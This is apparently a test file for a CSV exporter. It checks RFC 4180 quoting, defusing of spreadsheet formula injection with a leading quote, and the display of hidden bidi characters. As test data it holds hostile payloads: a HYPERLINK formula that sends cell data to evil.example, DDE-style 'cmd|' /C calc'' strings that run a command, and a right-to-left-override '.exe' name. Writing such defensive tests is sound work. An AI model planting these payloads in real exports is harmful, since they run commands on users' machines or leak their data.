/**
 * src/export/csv.ts: RFC 4180 quoting and spreadsheet formula-injection defusing, as examples and
 * as properties (whatever the text, reading the file back gives the text, with a leading quote
 * exactly when the text would have started a formula).
 */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import {
  csvCell,
  csvDecimal,
  csvRow,
  FORMULA_ESCAPE,
  startsLikeFormula,
  toCsv,
  UTF8_BOM,
} from '../../src/export/csv.ts';
import { readCsv } from './hostileCsvReader.ts';
import { revealHiddenCharacters } from '../../events/hiddenCharacters.ts';

describe('csvCell', () => {
  it('writes plain text as it is', () => {
    expect(csvCell('Essex Police')).toBe('Essex Police');
    expect(csvCell('PO-1234')).toBe('PO-1234');
    expect(csvCell('')).toBe('');
  });

  it('writes null and undefined as an empty cell', () => {
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
  });

  it('quotes a cell holding a comma, a quote, CR or LF, and doubles the quotes (RFC 4180 §2.6, §2.7)', () => {
    expect(csvCell('Essex, Southend and Thurrock')).toBe('"Essex, Southend and Thurrock"');
    expect(csvCell('the "Troubled Families" programme')).toBe(
      '"the ""Troubled Families"" programme"',
    );
    expect(csvCell('first line\nsecond line')).toBe('"first line\nsecond line"');
    expect(csvCell('first line\r\nsecond line')).toBe('"first line\r\nsecond line"');
    expect(csvCell('"')).toBe('""""');
  });

  it('keeps unicode as it is: accents, right-to-left text, emoji', () => {
    for (const text of ['Café Ñoño', 'مجلس مقاطعة إسكس', '💸 🏦', 'Ω≈ç√∫', '£250,000.00']) {
      const cell = csvCell(text);
      expect(
        cell === text || cell === `"${text}"`,
        `${JSON.stringify(text)} → ${JSON.stringify(cell)}`,
      ).toBe(true);
    }
  });

  // Issue 13 item 9: these used to pass through as they were, so a cell could read backwards.
  it('shows bidirectional controls and invisible characters as visible <U+XXXX> markers', () => {
    expect(csvCell('PO-1\u202Egnp.exe')).toBe('PO-1<U+202E>gnp.exe');
    expect(csvCell('a\u200Db')).toBe('a<U+200D>b');
    expect(csvCell('\u2067مجلس\u2069')).toBe('<U+2067>مجلس<U+2069>');
  });

  it.each([
    [
      '=',
      '=HYPERLINK("http://evil.example/?"&A1,"details")',
      `"'=HYPERLINK(""http://evil.example/?""&A1,""details"")"`,
    ],
    ['+', '+SUM(1,2)', `"'+SUM(1,2)"`],
    ['-', "-2+3+cmd|' /C calc'!A0", `'-2+3+cmd|' /C calc'!A0`],
    ['@', '@SUM(A1:A9)', `'@SUM(A1:A9)`],
    ['tab', '\t=1+1', `'\t=1+1`],
    ['carriage return', '\r=1+1', `"'\r=1+1"`],
    ['line feed', '\n=1+1', `"'\n=1+1"`],
    ['NUL', '\0=1+1', `'\0=1+1`],
  ])('defuses a cell starting with %s by a leading single quote', (_name, text, written) => {
    expect(startsLikeFormula(text)).toBe(true);
    expect(csvCell(text)).toBe(written);
  });

  it('does not escape a dangerous character that is not the first one', () => {
    expect(csvCell('Total =SUM(A1)')).toBe('Total =SUM(A1)');
    expect(csvCell('a-b+c@d')).toBe('a-b+c@d');
    expect(csvCell(' =1+1')).toBe(' =1+1');
  });

  it('escapes a negative amount written as text: amounts go through csvDecimal instead', () => {
    // A text cell cannot tell "-12.00" from "-2+3+cmd|…": both start with "-".
    expect(csvCell('-12.00')).toBe("'-12.00");
    expect(csvCell(csvDecimal('-12.00'))).toBe('-12.00');
    expect(csvCell(csvDecimal('1234.50'))).toBe('1234.50');
    expect(csvCell(csvDecimal('0'))).toBe('0');
  });

  it('csvDecimal accepts only plain decimal literals, so nothing a spreadsheet evaluates can pass as a number', () => {
    for (const bad of [
      '-2+3',
      '=1',
      '+1',
      '1e3',
      '1,000.00',
      ' 1',
      '1 ',
      '',
      '-',
      '.5',
      '1.',
      '01',
      '--1',
      '0x10',
      'NaN',
      '١٢٣',
      '-12.00\n',
    ]) {
      expect(() => csvDecimal(bad), JSON.stringify(bad)).toThrow(RangeError);
    }
    // Even a hand-built decimal cell is checked when written.
    expect(() => csvCell({ decimal: '=1+1' })).toThrow(RangeError);
  });
});

describe('semicolon-separator spreadsheets', () => {
  it('defuse a formula that starts after a separator inside a cell, and quote cells holding a semicolon', () => {
    expect(csvCell("Phase 1;=cmd|'/C calc'!A0")).toBe(`"Phase 1;'=cmd|'/C calc'!A0"`);
    expect(csvCell('a,+1')).toBe(`"a,'+1"`);
    expect(csvCell('line one\n@SUM(A1)')).toBe(`"line one\n'@SUM(A1)"`);
    expect(csvCell('no formula; here')).toBe('"no formula; here"');
  });
});

describe('csvRow and toCsv', () => {
  it('joins cells with commas; a file is BOM, header, rows, each record ending CRLF', () => {
    expect(csvRow(['a', 'b,c', null, '=x'])).toBe(`a,"b,c",,'=x`);
    const file = toCsv(
      ['position', 'reason'],
      [
        ['1', 'typo'],
        ['2', 'line one\r\nline two'],
      ],
    );
    expect(file).toBe(`${UTF8_BOM}position,reason\r\n1,typo\r\n2,"line one\r\nline two"\r\n`);
    expect(readCsv(file)).toEqual({
      hasBom: true,
      records: [
        ['position', 'reason'],
        ['1', 'typo'],
        ['2', 'line one\r\nline two'],
      ],
    });
  });

  it('an empty export is the BOM and the header', () => {
    expect(toCsv(['a', 'b'], [])).toBe(`${UTF8_BOM}a,b\r\n`);
  });

  it('refuses a row that does not match the header', () => {
    expect(() => toCsv(['a', 'b'], [['only one']])).toThrow(RangeError);
  });

  it('property: any text reads back as itself with a quote put before each formula start (the first character, or one after a separator) and nothing else changed', () => {
    const anyText = fc.oneof(
      fc.string({ unit: 'binary', maxLength: 40 }),
      fc.string({
        unit: fc.constantFrom(
          '=',
          '+',
          '-',
          '@',
          '\t',
          '\r',
          '\n',
          '\0',
          '"',
          ',',
          ';',
          "'",
          ' ',
          'a',
          '1',
          'é',
          '💸',
        ),
        maxLength: 12,
      }),
    );
    // An independent statement of the rule, character by character, over the text as a person
    // is shown it: invisible and bidi characters revealed as <U+XXXX> (their own property is in
    // test/reliability/hiddenCharacters.test.ts).
    const expected = (text: string): string =>
      [...revealHiddenCharacters(text)]
        .map((ch, i, chars) => {
          const formulaStart =
            i === 0
              ? startsLikeFormula(ch)
              : '=+-@'.includes(ch) &&
                ';,\t\r\n'.includes(chars[i - 1]!) &&
                !(i === 1 && startsLikeFormula(chars[0]!));
          return (formulaStart ? FORMULA_ESCAPE : '') + ch;
        })
        .join('');
    fc.assert(
      fc.property(
        fc.array(fc.array(anyText, { minLength: 3, maxLength: 3 }), { maxLength: 8 }),
        (rows) => {
          const file = readCsv(toCsv(['x', 'y', 'z'], rows));
          expect(file.hasBom).toBe(true);
          expect(file.records).toHaveLength(rows.length + 1);
          // Whole rows compared at once: one expect per run rather than two per cell.
          expect(file.records.slice(1)).toEqual(rows.map((row) => row.map(expected)));
          expect(
            file.records.slice(1).flat().filter(startsLikeFormula),
            'cells that still start like a formula',
          ).toEqual([]);
        },
      ),
      { numRuns: 500 },
    );
  });
});
